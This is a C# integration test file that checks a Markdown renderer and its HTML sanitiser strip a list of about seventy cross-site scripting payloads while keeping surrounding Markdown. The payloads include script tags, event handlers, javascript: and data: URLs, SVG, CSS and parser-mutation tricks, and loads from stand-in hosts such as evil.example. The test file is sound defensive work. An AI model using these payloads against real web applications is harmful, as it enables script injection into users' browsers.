using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Tillit.Web.Infrastructure;

namespace Tillit.Integration.Tests.Documents;

/// <summary>
/// A list of cross-site scripting payloads, each written into a document as Markdown and also handed
/// to the sanitiser as raw HTML. What comes out is parsed as a browser would and must contain only
/// the allowed elements and attributes, no script-capable URL and no image from another host.
/// Legitimate Markdown around the payloads must survive.
/// </summary>
public sealed class XssVectorTests : IDisposable
{
    private static readonly HashSet<string> AllowedElements = new(StringComparer.OrdinalIgnoreCase)
    {
        "h2", "h3", "h4", "h5", "h6", "p", "br", "hr", "ul", "ol", "li", "strong", "em", "del", "code", "pre", "blockquote",
        "table", "thead", "tbody", "tr", "th", "td", "a", "img",
    };

    private static readonly HashSet<string> AllowedAttributes = new(StringComparer.OrdinalIgnoreCase) { "href", "title", "src", "alt", "start" };

    private readonly MarkdownRenderer _renderer = new();

    public void Dispose() => _renderer.Dispose();

    public static TheoryData<string> Vectors { get; } = new()
    {
        // Script elements in their many spellings
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/xss src=\"https://evil.example/x.js\"></script>",
        "<<script>alert(1);//<</script>",
        "<script>alert(String.fromCharCode(88,83,83))</script>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",

        // Event handlers
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
        "<body onload=alert(1)>",
        "<div onmouseover=\"alert(1)\">hover</div>",
        "<a href=\"https://ok.example\" onclick=\"alert(1)\">x</a>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<p/onclick=alert(1)>x</p>",
        "<p onclick\n=alert(1)>x</p>",
        "<select autofocus onfocus=alert(1)>",

        // javascript:, vbscript: and data: URLs
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<img src=\"javascript:alert(1)\">",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<form action=\"javascript:alert(1)\"><button>x</button></form>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<base href=\"javascript:alert(1)//\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",

        // SVG
        "<svg onload=alert(1)>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><set attributeName=\"href\" to=\"javascript:alert(1)\"/></svg>",
        "<svg><foreignObject><iframe src=\"https://evil.example\"></iframe></foreignObject></svg>",

        // CSS
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"width: expression(alert(1))\">x</div>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>body{background:url(\"javascript:alert(1)\")}</style>",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        "<p style=\"-moz-binding:url(https://evil.example/x.xml#xss)\">x</p>",

        // Mutation and parser tricks
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<textarea><img src=x onerror=alert(1)></textarea>",
        "<template><img src=x onerror=alert(1)></template>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<img src=\"x` `<script>alert(1)</script>\"` `>",
        "<a href=\"https://ok.example\"\"onmouseover=alert(1)>x</a>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<table><td background=\"javascript:alert(1)\">x</td></table>",

        // Remote resources
        "<img src=\"https://tracker.example/pixel.png\">",
        "<img src=\"//tracker.example/pixel.png\">",
        "<img srcset=\"https://tracker.example/a.png 1x\">",
        "<audio src=\"https://evil.example/a.mp3\" autoplay></audio>",

        // Markdown's own ways to carry a URL
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](vbscript:msgbox(1))",
        "![x](javascript:alert(1))",
        "![x](https://tracker.example/pixel.png)",
        "![x](data:image/png;base64,iVBORw0KGgo=)",
        "<javascript:alert(1)>",
        "[x]: javascript:alert(1)\n\n[klick][x]",
        "[x](https://ok.example \"t\" onmouseover=alert(1))",
        "[x](&#106;avascript:alert(1))",
    };

    [Fact]
    public void The_list_has_at_least_fifty_vectors() => Assert.True(Vectors.Count >= 50, $"{Vectors.Count} vectors");

    [Theory]
    [MemberData(nameof(Vectors))]
    public void A_payload_in_a_document_is_stripped_and_the_markdown_around_it_kept(string payload)
    {
        var markdown = $"# Rubrik\n\n- punkt ett\n- punkt två\n\n| A | B |\n|---|---|\n| 1 | 2 |\n\n[MSB](https://www.msb.se/)\n\n{payload}\n\nSlut.";
        var html = _renderer.Render(markdown).Value!;

        AssertSafe(html, payload);
        Assert.Contains("<h2>Rubrik</h2>", html, StringComparison.Ordinal);
        Assert.Contains("<li>punkt två</li>", html, StringComparison.Ordinal);
        Assert.Contains("<td>2</td>", html, StringComparison.Ordinal);
        Assert.Contains("<a href=\"https://www.msb.se/\">MSB</a>", html, StringComparison.Ordinal);
        Assert.Contains("Slut.", html, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Vectors))]
    public void The_sanitiser_alone_strips_the_raw_payload(string payload) =>
        AssertSafe(_renderer.Sanitize("<p>före</p>" + payload + "<p>efter</p>"), payload);

    private static void AssertSafe(string html, string payload)
    {
        var document = new HtmlParser().ParseDocument("<!DOCTYPE html><html><body>" + html + "</body></html>");
        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            Assert.True(AllowedElements.Contains(element.LocalName), $"<{element.LocalName}> survived {payload}: {html}");
            foreach (var attribute in element.Attributes)
            {
                Assert.True(AllowedAttributes.Contains(attribute.Name), $"attribute {attribute.Name} on <{element.LocalName}> survived {payload}: {html}");
                if (attribute.Name is "href" or "src")
                {
                    var value = new string(attribute.Value.Where(c => !char.IsWhiteSpace(c) && !char.IsControl(c)).ToArray());
                    Assert.Matches("^(https?:|mailto:|/(?!/)|#|[^:]*$)", value);
                    if (attribute.Name == "src" || element.LocalName == "img")
                    {
                        Assert.True(value.StartsWith('/') && !value.StartsWith("//", StringComparison.Ordinal), $"image from elsewhere survived {payload}: {html}");
                    }
                }
            }
        }

        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
        Assert.Empty(document.Body.QuerySelectorAll("[style]"));
        Assert.DoesNotContain(document.Body.QuerySelectorAll("*"), e => e.NodeType == NodeType.Element && e.LocalName is "svg" or "math" or "iframe" or "object" or "embed" or "style" or "form");
    }
}
